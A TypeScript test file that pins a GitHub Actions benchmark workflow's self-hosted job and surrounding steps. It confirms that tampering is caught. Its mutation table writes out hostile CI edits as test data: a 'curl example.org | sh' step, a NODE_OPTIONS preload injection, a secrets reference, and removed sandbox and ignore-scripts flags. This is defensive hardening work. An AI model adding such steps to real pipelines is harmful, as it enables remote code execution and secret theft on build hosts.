/** What the one job on a benchmark host may do, and each step of the jobs around it: whoever changes one says so twice. */
import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { resolve } from 'node:path'
import { test } from 'node:test'
import { parse } from 'yaml'

type Step = { if?: string; env?: object; 'working-directory'?: string; uses?: string; with?: object; run?: string }
type Job = Record<string, unknown> & { steps: Step[] }
type Workflow = { on: object; permissions: unknown; jobs: Record<'plan' | 'measure' | 'publish', Job> }

const bench = readFileSync(resolve(import.meta.dirname, '../../.github/workflows/bench.yml'), 'utf8')

/** On which condition, with which variables, where and what. */
const stepsOf = ({ steps }: Job) =>
  steps.map(({ if: condition, env = {}, 'working-directory': at, uses, with: input, run }) => {
    const action = uses && `${uses.replace(/@[0-9a-f]{40}$/, '')} ${JSON.stringify(input ?? {})}`
    return [condition && `if ${condition}`, ...Object.keys(env), at && `${at}:`, action ?? run]
      .filter(Boolean)
      .join(' ')
  })

function factsOf(text: string) {
  const workflow = parse(text) as Workflow
  const { on, permissions, jobs } = workflow
  const { measure: job, plan, publish } = jobs
  return {
    started_by: Object.keys(on).join(),
    after: [job.needs, plan.if, job.environment],
    permissions: [permissions, job.permissions],
    runs_on: job['runs-on'],
    env: job.env,
    queue: job.concurrency,
    // no condition, container, service, shell or default of its own
    keys: [[workflow], [job], job.steps].map(each => [...new Set(each.flatMap(Object.keys))].join()),
    told: [...new Set(JSON.stringify(job).match(/\$\{\{.*?\}\}/g))].join(),
    steps: stepsOf(job),
    around: { plan: stepsOf(plan), publish: stepsOf(publish) },
    runs_entries: /npm run (?:pack-bundle|preview|verify)/.test(text),
  }
}

const HOST = `\${{ matrix.host }}`
const SET_UP = ['./.github/actions/set-up {}', 'npm ci --omit=dev --ignore-scripts']
const PINNED: ReturnType<typeof factsOf> = {
  started_by: 'workflow_dispatch',
  after: ['plan', "github.ref == 'refs/heads/main'", { name: 'bench' }],
  permissions: [{}, {}],
  runs_on: ['self-hosted', `bench-${HOST}`],
  env: { HOST, DIGEST: `\${{ needs.plan.outputs.digest }}` },
  queue: { group: `bench-host-${HOST}`, 'cancel-in-progress': false, queue: 'max' },
  keys: [
    'name,on,permissions,concurrency,jobs',
    'name,needs,strategy,runs-on,timeout-minutes,permissions,environment,concurrency,env,steps',
    'run,uses,with,working-directory',
  ],
  told: `${HOST},\${{ fromJSON(needs.plan.outputs.hosts) }},\${{ needs.plan.outputs.digest }}`,
  steps: [
    'rm -rf kit run checkout code builds',
    'actions/download-artifact {"name":"code","path":"code"}',
    'actions/download-artifact {"name":"kit","path":"kit"}',
    'echo "$DIGEST  code/code.tar" | sha256sum --check --strict',
    'mkdir -p checkout run && tar --extract --no-same-owner --file code/code.tar --directory checkout',
    'checkout: npm run unpack-bundle -- --kit ../kit/kit.tar --out ../builds',
    'checkout: npm run bench -- --host "$HOST" --kit ../builds/kit.json --data ../run --sandbox || test $? -eq 1',
    `actions/upload-artifact {"name":"run-${HOST}","path":"run/raw/","retention-days":30}`,
  ],
  around: {
    plan: [
      'actions/checkout {"persist-credentials":false}',
      ...SET_UP,
      'npm run --silent pack-code -- --hosts "$HOSTS" --out code >> "$GITHUB_OUTPUT"',
      'actions/upload-artifact {"name":"code","path":"code/","retention-days":7}',
      'GH_TOKEN gh run download --name kit --dir kit "$(gh run list --workflow build.yml --branch builds --commit "$GITHUB_SHA" --status success --limit 1 --json databaseId --jq \'.[0].databaseId\')"',
      'actions/upload-artifact {"name":"kit","path":"kit/","retention-days":7}',
    ],
    publish: [
      'actions/checkout {"fetch-depth":0,"persist-credentials":false}',
      ...SET_UP,
      `actions/download-artifact {"name":"run-${HOST}","path":"artifact"}`,
      'npm run check-artifact -- --artifact artifact --host "$HOST" --commit "$GITHUB_SHA" --frameworks "$FRAMEWORKS" --out checked',
      'GH_TOKEN gh auth setup-git',
      'GH_TOKEN GIT_AUTHOR_NAME GIT_AUTHOR_EMAIL GIT_COMMITTER_NAME GIT_COMMITTER_EMAIL npm run publish-run -- "$(ls checked/raw)" --data checked',
      'GH_TOKEN gh pr create --base main --head "run/$(ls checked/raw)" --title "Add the run $(ls checked/raw)" --body "One sealed folder and nothing else, signed by its host."',
    ],
  },
  runs_entries: false,
}

test('the job on the host does this and nothing else', () => assert.deepEqual(factsOf(bench), PINNED))

for (const [fact, from, to] of [
  ['started_by', 'on:\n', 'on:\n  pull_request:\n'],
  ['after', "    if: github.ref == 'refs/heads/main'\n", ''],
  ['after', '      name: bench\n', '      name: other\n'],
  ['permissions', '    permissions: {}\n', '    permissions: { contents: read }\n'],
  ['runs_on', 'runs-on: [self-hosted, ', 'runs-on: ['],
  ['env', '      DIGEST:', '      NODE_OPTIONS: --import=./kit/a.mjs\n      DIGEST:'],
  ['queue', '      queue: max\n', ''],
  ['keys', '    permissions: {}\n', '    permissions: {}\n    if: always()\n'],
  ['keys', 'working-directory: checkout\n', 'working-directory: checkout\n        shell: sh\n'],
  ['told', 'needs.plan.outputs.digest }}', 'secrets.KEY }}'],
  ['steps', '          path: kit\n', '          path: kit\n          run-id: 1\n'],
  ['steps', 'actions/download-artifact', 'actions/cache'],
  ['steps', /(actions\/download-artifact)@[0-9a-f]{40}/, '$1@v4'],
  ['steps', ' --sandbox', ''],
  ['steps', '- run: rm', '- run: curl example.org | sh\n      - run: rm'],
  ['steps', 'working-directory: checkout', 'working-directory: kit'],
  ['around', ' --branch builds', ''],
  ['around', ' --commit "$GITHUB_SHA" --status', ' --status'],
  ['around', ' --ignore-scripts', ''],
  ['around', '      - id: pack\n', '      - id: pack\n        if: always()\n'],
  ['runs_entries', '      - id: pack\n', '      - run: npm run pack-bundle\n      - id: pack\n'],
] as const)
  test(`${fact} of ${JSON.stringify(to)} is seen`, () => {
    const changed = bench.replace(from, to)
    assert.notEqual(changed, bench)
    const found = factsOf(changed)
    assert.notDeepEqual(found[fact], PINNED[fact])
  })
